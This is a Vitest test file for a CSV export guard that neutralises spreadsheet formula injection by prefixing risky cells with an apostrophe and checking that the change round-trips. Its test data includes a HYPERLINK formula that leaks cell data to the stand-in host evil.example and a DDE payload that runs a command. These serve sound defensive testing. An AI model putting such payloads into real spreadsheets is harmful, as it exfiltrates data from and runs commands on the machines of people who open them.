import { describe, expect, it } from 'vitest';
import { guardFormula, unguardFormula } from '@/lib/csv-formula';

describe('CSV cells that spreadsheets would run', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
  ])('neutralises %j', (cell, written) => {
    expect(guardFormula(cell)).toBe(written);
    expect(unguardFormula(written)).toBe(cell);
  });

  it('leaves ordinary text alone', () => {
    for (const cell of ['Russia', 'a = b', "'quoted'", "'", '', '2025-07-03', 'Koofi: "no"']) {
      expect(guardFormula(cell)).toBe(cell);
      expect(unguardFormula(cell)).toBe(cell);
    }
  });

  it('round-trips text that already starts with apostrophes before a formula character', () => {
    for (const cell of ["'=1", "''+x", "'''-", "'@"]) {
      expect(guardFormula(cell)).toBe(`'${cell}`);
      expect(unguardFormula(guardFormula(cell))).toBe(cell);
    }
  });
});
